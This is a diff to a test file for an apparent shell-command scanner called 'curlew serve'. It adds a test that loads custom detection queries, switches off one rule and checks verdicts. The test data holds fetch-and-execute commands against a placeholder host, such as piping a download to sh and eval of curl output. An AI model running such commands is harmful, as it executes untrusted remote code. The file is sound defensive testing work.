@@ -1,4 +1,4 @@
-import { readFile, writeFile } from "node:fs/promises";
+import { mkdir, readFile, writeFile } from "node:fs/promises";
 import { request as httpRequest } from "node:http";
 import { join } from "node:path";
 import { afterEach, describe, expect, it } from "vitest";
@@ -54,6 +54,23 @@ describe("curlew serve", () => {
     });
     expect(await answer).toEqual({ status: 200, connection: "close" });
     expect(await service.exit()).toBe(0);
+  });
+
+  it("reads by the query files of several folders, without the rules that are switched off", async () => {
+    const { tokens, token } = await createAccess(cleanup);
+    const folder = await temporaryFolder(cleanup);
+    for (const name of ["aget", "bget"]) {
+      await mkdir(join(folder, name, "bash"), { recursive: true });
+      await writeFile(join(folder, name, "bash", "mine.scm"), `((command_name) @source.fetcher (#word-is? @source.fetcher "${name}") (#set! writes "stdout"))\n`);
+    }
+    const own = ["--queries", join(folder, "aget"), "--queries", join(folder, "bget"), "--disable-rule", "bash/fetch-substitution"];
+    const service = serve(tokens, ...own);
+    const address = await service.address();
+    const verdict = async (text: string) => ((await (await assess(address, token, { text })).json()) as { readonly verdict: string }).verdict;
+    const texts = ["aget https://x.example | sh", "bget https://x.example | sh", 'eval "$(curl https://x.example)"'];
+    expect(await Promise.all(texts.map(verdict))).toEqual(["finding", "finding", "clear"]);
+    const unknown = serve(tokens, "--disable-rule", "acme/none");
+    expect([await unknown.exit(), unknown.stderr]).toEqual([2, expect.stringContaining("acme/none")]);
   });
 
   it("writes no log to a full disk, and works on", async () => {
